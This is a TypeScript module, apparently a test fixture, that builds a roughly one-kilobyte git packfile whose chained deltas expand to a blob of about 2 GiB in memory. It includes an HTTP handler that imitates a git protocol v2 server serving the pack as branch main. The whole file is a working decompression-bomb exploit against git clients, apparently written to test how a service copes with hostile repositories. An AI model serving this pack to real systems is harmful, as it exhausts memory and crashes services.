import { createHash } from 'node:crypto';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { deflateSync } from 'node:zlib';

/** A pack in the form of `git upload-pack`, and the commit of its branch. */
export interface HostilePack {
  readonly commit: string;
  readonly pack: Buffer;
  /** Bytes of the largest object in the pack. */
  readonly unpackedBytes: number;
}

const kinds = { commit: 1, tree: 2, blob: 3, refDelta: 7 } as const;
type Whole = 'commit' | 'tree' | 'blob';

const copyBytes = 64 * 1024;
const longCopyBytes = 0xff_ff_ff;
const shortCopies = 256;

/** Returns a pack of about a kilobyte. Its second delta describes one blob of `longCopies` times 16 MiB, which git index-pack builds in memory. */
export function bombPack({ longCopies = 128 }: { readonly longCopies?: number } = {}): HostilePack {
  const dockerfile = Buffer.from('FROM scratch\n');
  const base = Buffer.alloc(copyBytes);
  const middleBytes = shortCopies * copyBytes;
  const unpackedBytes = longCopies * longCopyBytes;
  const tree = Buffer.concat([
    Buffer.from('100644 Dockerfile\0'),
    Buffer.from(objectId('blob', dockerfile), 'hex'),
  ]);
  const person = 'A <a@example.com> 1700000000 +0000';
  const commit = Buffer.from(
    `tree ${objectId('tree', tree)}\nauthor ${person}\ncommitter ${person}\n\nbomb\n`,
  );
  const middle = delta({ from: copyBytes, to: middleBytes, copies: Buffer.alloc(shortCopies, 0x80) });
  const last = delta({
    from: middleBytes,
    to: unpackedBytes,
    // 0xf0: three bytes of size follow, and the offset is 0.
    copies: Buffer.concat(Array<Buffer>(longCopies).fill(Buffer.from([0xf0, 0xff, 0xff, 0xff]))),
  });
  const objects = [
    entry(kinds.commit, commit),
    entry(kinds.tree, tree),
    entry(kinds.blob, dockerfile),
    entry(kinds.blob, base),
    entry(kinds.refDelta, middle, objectId('blob', base)),
    entry(kinds.refDelta, last, objectId('blob', Buffer.alloc(middleBytes))),
  ];
  const header = Buffer.from('PACK\0\0\0\x02\0\0\0\0', 'latin1');
  header.writeUInt32BE(objects.length, 8);
  const body = Buffer.concat([header, ...objects]);
  const pack = Buffer.concat([body, createHash('sha1').update(body).digest()]);
  return { commit: objectId('commit', commit), pack, unpackedBytes };
}

/** Answers like a git server of protocol version 2 whose branch `main` is this pack. */
export function servePack({
  commit,
  pack,
}: HostilePack): (req: IncomingMessage, res: ServerResponse) => void {
  return (req, res) => {
    const pieces: Buffer[] = [];
    req.on('data', (piece: Buffer) => pieces.push(piece));
    req.once('end', () => {
      const asked = Buffer.concat(pieces).toString('latin1');
      const answer = (service: string, ...lines: Buffer[]) =>
        res
          .writeHead(200, { 'content-type': `application/x-git-upload-pack-${service}` })
          .end(Buffer.concat(lines));
      if (req.url?.includes('/info/refs')) {
        const service = [line('# service=git-upload-pack\n'), flush];
        const able = ['version 2\n', 'ls-refs\n', 'fetch=shallow\n', 'object-format=sha1\n'].map(line);
        answer('advertisement', ...service, ...able, flush);
      } else if (asked.includes('command=ls-refs')) {
        answer(
          'result',
          line(`${commit} HEAD symref-target:refs/heads/main\n`),
          line(`${commit} refs/heads/main\n`),
          flush,
        );
      } else {
        const shallow = [line('shallow-info\n'), line(`shallow ${commit}\n`), delimiter];
        const chunk = Buffer.concat([Buffer.from([1]), pack]);
        answer('result', ...shallow, line('packfile\n'), line(chunk), flush);
      }
    });
  };
}

const flush = Buffer.from('0000');
const delimiter = Buffer.from('0001');

function line(content: string | Buffer): Buffer {
  const bytes = Buffer.from(content);
  return Buffer.concat([Buffer.from((bytes.length + 4).toString(16).padStart(4, '0')), bytes]);
}

function objectId(type: Whole, content: Buffer): string {
  return createHash('sha1').update(`${type} ${content.length}\0`).update(content).digest('hex');
}

function delta({ from, to, copies }: { from: number; to: number; copies: Buffer }): Buffer {
  return Buffer.concat([size(from), size(to), copies]);
}

/** Encodes seven bits per byte, the lowest first. */
function size(bytes: number): Buffer {
  const out: number[] = [];
  let rest = bytes;
  do {
    const low = rest % 128;
    rest = Math.floor(rest / 128);
    out.push(rest > 0 ? low | 0x80 : low);
  } while (rest > 0);
  return Buffer.from(out);
}

/** Returns an entry of a pack: type and size, the id of a delta's base, and the deflated content. */
function entry(kind: number, content: Buffer, base = ''): Buffer {
  const low = content.length % 16;
  const rest = Math.floor(content.length / 16);
  const first = Buffer.from([(rest > 0 ? 0x80 : 0) | (kind << 4) | low]);
  const header = rest > 0 ? Buffer.concat([first, size(rest)]) : first;
  return Buffer.concat([header, Buffer.from(base, 'hex'), deflateSync(content, { level: 9 })]);
}
